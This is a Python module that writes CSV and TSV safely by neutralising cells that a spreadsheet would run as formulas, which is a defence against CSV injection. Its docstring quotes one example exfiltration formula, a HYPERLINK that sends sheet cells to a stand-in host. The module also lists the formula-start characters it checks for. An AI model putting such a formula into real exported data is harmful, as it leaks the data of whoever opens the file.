"""CSV and TSV that a spreadsheet cannot run: the one writer of every CSV SpeedLab offers.

A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, tab or carriage return as
a formula; `=HYPERLINK("http://host/?leak="&A2&B2,"log")` in an imported bundle's error
text would send the sheet's data away when opened (CSV injection, CWE-1236; hyperfine
fixed the same in sharkdp/hyperfine#916). OWASP's guidance, followed here: such a text
cell gets a leading single quote and every text cell is quoted. Numbers stay numbers
(a float -0.5 is written -0.5, unquoted); the text "-0.5" (untrusted input) is text and
gets the quote.

- `cell(value)`: one cell neutralised (the rule, for any writer).
- `to_csv(frame, sep=",")`: a DataFrame (or a list of dicts) as CSV text with every cell
  through `cell`; text cells quoted.

Base layer: stdlib only (pandas, imported inside to_csv, for its DataFrame).
"""
from __future__ import annotations

import csv
import io
import numbers
from typing import Any

# What a spreadsheet reads as the start of a formula (OWASP: CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """`value` safe for a CSV cell: a number (bool, int, float, NumPy scalar) or None is
    returned as it is; anything else becomes text, with a `'` before it when it starts
    with = + - @ tab or CR."""
    if value is None or isinstance(value, numbers.Number):
        return value
    text = value if isinstance(value, str) else str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def to_csv(frame, sep: str = ",") -> str:
    """`frame` (a pandas DataFrame, or a list of dicts) as CSV text (TSV with sep="\\t"):
    the header and every text cell through `cell` and quoted; numbers unquoted as
    Python writes them; missing values (None, NaN, NaT) empty; infinities as text."""
    import pandas as pd

    df = frame if isinstance(frame, pd.DataFrame) else pd.DataFrame(list(frame))
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=sep, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\n")
    writer.writerow([cell(str(c)) for c in df.columns])
    for row in df.itertuples(index=False, name=None):
        writer.writerow([_out(v) for v in row])
    return buf.getvalue()


def _out(value: Any) -> Any:
    """One value as the writer takes it: numbers bare, missing (None, NaN, NaT) empty,
    anything else text through `cell` (quoted by the writer)."""
    import pandas as pd

    if value is None or not isinstance(value, (str, list, tuple, dict)) and pd.isna(value):
        return ""
    if isinstance(value, numbers.Real) and not isinstance(value, bool) and abs(float(value)) == float("inf"):
        return cell(str(float(value)))  # "-inf" bare would be a formula (a name): text, quoted
    return cell(value)
